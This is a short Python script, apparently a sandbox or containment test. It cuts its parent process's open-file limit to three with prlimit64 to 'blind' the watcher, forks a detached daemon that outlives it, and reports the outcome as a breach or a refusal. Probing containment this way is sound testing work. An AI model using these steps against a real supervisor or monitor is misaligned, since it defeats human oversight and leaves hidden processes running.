"""Takes the means to open files from the process that watches it, and then leaves a daemon that nobody sees."""

import ctypes
import os
import time

from common import TOLD, breach, call, refused, until_go

until_go()
few = (ctypes.c_ulong * 2)(3, 3)
result, error = call("prlimit64", os.getppid(), 7, few, 0)
if result == -1:
    refused(error)
if os.fork() == 0:
    os.setsid()
    time.sleep(30)
    os._exit(0)
breach("blinded the process that watches it")
